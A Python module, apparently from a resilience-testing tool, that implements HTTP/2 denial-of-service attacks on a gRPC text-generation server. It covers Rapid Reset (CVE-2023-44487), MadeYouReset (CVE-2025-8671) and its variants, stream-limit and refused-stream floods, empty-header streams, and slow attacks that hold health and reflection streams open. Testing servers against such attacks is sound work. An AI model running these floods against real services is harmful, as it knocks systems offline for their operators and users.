"""Attacks with streams: opened, reset, and opened again."""

from __future__ import annotations

import itertools
from functools import lru_cache
from typing import TYPE_CHECKING, Final

from . import frames as h2
from .catalog import attack
from .driver import Burst

if TYPE_CHECKING:
    from collections.abc import Iterator

    from .driver import Driver

_STREAMS: Final = 20_000
_TOGETHER: Final = 100
_LONG: Final = 10_000
"""Tokens of a generation that nobody waits for."""
_HEALTH: Final = "/grpc.health.v1.Health/"
_REFLECTION: Final = "/grpc.reflection.v1.ServerReflection/"
_OPEN: Final = 1000
"""Streams that a server lets a connection have open."""
_MUCH: Final = 15_000


@lru_cache
def _calls(method: str, body: bytes, ending: bytes) -> list[Burst]:
    """Whole calls, each followed by a frame of four bytes on its stream."""
    head = h2.request(method)
    pieces = [
        h2.call(stream, head, body) + h2.frame(ending[0], 0, stream, ending[1:])
        for stream in range(1, 2 * _STREAMS, 2)
    ]
    return [
        Burst(b"".join(pieces[start : start + _TOGETHER]), _TOGETHER)
        for start in range(0, _STREAMS, _TOGETHER)
    ]


def _script(bursts: list[Burst]) -> Iterator[Burst | float]:
    yield Burst(h2.greeting({3: 1 << 20}))
    yield from bursts


@attack("grpc", pace="flood")
def rapid_reset(driver: Driver) -> None:
    """Opens generations and resets each in the same breath (CVE-2023-44487)."""
    bursts = _calls("TextGenerate", h2.generation(_LONG), bytes((h2.RST_STREAM, 0, 0, 0, 8)))
    driver.play(lambda: _script(bursts), 2, hang_up=True)


@attack("grpc", pace="flood")
def rapid_reset_unary(driver: Driver) -> None:
    """Makes short calls and resets each in the same breath."""
    bursts = _calls("GetModelInfo", b"", bytes((h2.RST_STREAM, 0, 0, 0, 8)))
    driver.play(lambda: _script(bursts), 2, hang_up=True)


@attack("grpc", pace="flood")
def rapid_reset_together(driver: Driver) -> None:
    """Opens generations and resets each in the same breath, on 20 connections that are left and made anew."""
    bursts = _calls("TextGenerate", h2.generation(_LONG), bytes((h2.RST_STREAM, 0, 0, 0, 8)))
    driver.play(lambda: _script(bursts), 20, hang_up=True)


@attack("grpc", pace="flood")
def made_you_reset(driver: Driver) -> None:
    """Opens generations and has the server reset each, by a window that grows too far (CVE-2025-8671)."""
    overflow = bytes((h2.WINDOW_UPDATE, 0x7F, 0xFF, 0xFF, 0xFF))
    bursts = _calls("TextGenerate", h2.generation(_LONG), overflow)
    driver.play(lambda: _script(bursts), 2, hang_up=True)


@attack("grpc", pace="flood")
def made_you_reset_otherwise(driver: Driver) -> None:
    """The same by four other faults: no increment, data after the end, a wrong length, a stream on itself."""
    body = h2.generation(_LONG)
    head = h2.request("TextGenerate")
    short = h2.request("TextGenerate", (b"content-length", b"1"))
    faults = itertools.cycle(
        [
            lambda stream: h2.call(stream, head, body) + h2.window(stream, 0),
            lambda stream: h2.call(stream, head, body) + h2.frame(h2.DATA, 0, stream, b"more"),
            lambda stream: h2.call(stream, short, body),
            lambda stream: (
                h2.call(stream, head, body)
                + h2.frame(h2.PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10")
            ),
        ]
    )

    def script() -> Iterator[Burst | float]:
        fault = next(faults)
        yield Burst(h2.GREETING)
        for start in range(1, 2000, 2 * _TOGETHER):
            streams = range(start, start + 2 * _TOGETHER, 2)
            yield Burst(b"".join(map(fault, streams)), _TOGETHER)

    driver.play(script, 4, hang_up=True)


@attack("grpc", pace="flood")
def max_streams_flood(driver: Driver) -> None:
    """Opens 5,000 streams on each of 4 connections and ends none."""
    head = h2.request("TextGenerate")
    opening = b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) for stream in range(1, 10_000, 2))

    def script() -> Iterator[Burst | float]:
        yield Burst(h2.GREETING)
        yield Burst(opening, 5000)

    driver.play(script, 4)


@attack("grpc", pace="flood")
def refused_streams_flood(driver: Driver) -> None:
    """Fills a connection with open streams and goes on opening streams, each of which must be refused."""
    head = h2.request("TextGenerate")
    pieces = [h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) for stream in range(1, 2 * _STREAMS, 2)]

    def script() -> Iterator[Burst | float]:
        yield Burst(h2.GREETING)
        for start in range(0, _STREAMS, _TOGETHER):
            yield Burst(b"".join(pieces[start : start + _TOGETHER]), _TOGETHER)

    driver.play(script, 2, hang_up=True)


@attack("grpc", pace="flood")
def unknown_methods(driver: Driver) -> None:
    """Calls methods that do not exist, as fast as it can."""
    driver.play(
        lambda: _script(_calls("NoSuchMethod", b"", bytes((h2.WINDOW_UPDATE, 0, 0, 0, 1)))), 2, hang_up=True
    )


@attack("grpc", pace="flood")
def empty_headers(driver: Driver) -> None:
    """Opens streams without a single header field."""
    bursts = [
        Burst(
            b"".join(
                h2.frame(h2.HEADERS, h2.END_HEADERS, stream)
                for stream in range(start, start + 2 * _TOGETHER, 2)
            ),
            _TOGETHER,
        )
        for start in range(1, 2 * _STREAMS, 2 * _TOGETHER)
    ]
    driver.play(lambda: _script(bursts), 2, hang_up=True)


def _open_for_ever(driver: Driver, *more: tuple[bytes, bytes]) -> None:
    """Watches of health and streams of reflection by turns, on 20 connections."""
    watch = h2.request("Watch", *more, service=_HEALTH)
    reflect = h2.request("ServerReflectionInfo", *more, service=_REFLECTION)
    bursts = [
        Burst(h2.call(stream, watch, b"") + h2.frame(h2.HEADERS, h2.END_HEADERS, stream + 2, reflect), 2)
        for stream in range(1, 2 * _OPEN, 4)
    ]
    driver.play(lambda: _script(bursts), 20)


@attack("grpc", pace="slow")
def public_streams(driver: Driver) -> None:
    """Opens streams that need no key and never end, 1,000 on each of 20 connections, and leaves them open."""
    _open_for_ever(driver)


@attack("grpc", pace="slow")
def public_streams_large_headers(driver: Driver) -> None:
    """The same with a header field of 15,000 bytes each, which the server has to keep."""
    _open_for_ever(driver, (b"x-a", b"y" * _MUCH))
